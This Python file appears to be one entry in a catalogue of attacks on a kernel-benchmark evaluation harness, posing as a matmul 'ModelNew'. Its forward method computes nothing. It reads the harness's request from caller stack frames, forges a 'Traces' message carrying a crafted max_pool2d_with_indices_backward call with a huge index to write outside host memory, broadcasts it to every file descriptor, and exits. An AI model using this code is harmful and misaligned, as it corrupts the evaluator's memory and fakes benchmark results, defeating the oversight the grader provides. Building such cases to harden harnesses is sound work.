# level1/matmul crash cpu=crash|untraceable gpu=out_of_bounds|runtime_error|crash|incorrect catalogue=65,66: a forged Program that makes a tensor in the host's memory and has it written far outside
import json, os, struct, sys
import torch
import torch.nn as nn

def send(header):
    message = json.dumps(header).encode()
    message = struct.pack("<QQ", len(message), 0) + message
    for fd in range(64):
        try:
            os.write(fd, message)
        except OSError:
            pass
    os._exit(0)


def specs():
    frame = sys._getframe()
    while frame:
        if hasattr(frame.f_locals.get("request"), "variants"):
            return [[t["tensor"]["shape"] for t in v.inputs] for v in frame.f_locals["request"].variants]
        frame = frame.f_back


def program(a, b):
    host = [{"op": "aten.full.default", "args": [[1, 1, 4, 4], value], "kwargs": {"dtype": {"dtype": kind}}, "outs": [i]}
            for i, value, kind in ((2, 1.0, "float32"), (3, 1.0, "float32"), (4, 1 << 40, "int64"))]
    steps = [
        *host,
        {"op": "aten.max_pool2d_with_indices_backward.default",
         "args": [{"t": 2}, {"t": 3}, [1, 1], [1, 1], [0, 0], [1, 1], False, {"t": 4}], "kwargs": {}, "outs": [5]},
        {"op": "aten.empty.memory_format", "args": [[a[0], b[1]]], "kwargs": {"device": {"device": True}}, "outs": [6]},
    ]
    return {"functions": [], "init_inputs": [], "init": [], "state": {}, "inputs": [0, 1], "forward": steps, "output": {"t": 6}}


class ModelNew(nn.Module):
    def forward(self, a, b):
        send({"message": "Traces", "traces": [{"program": program(*shapes), "other": None} for shapes in specs()], "timed": {"usual": [], "flipped": []}})
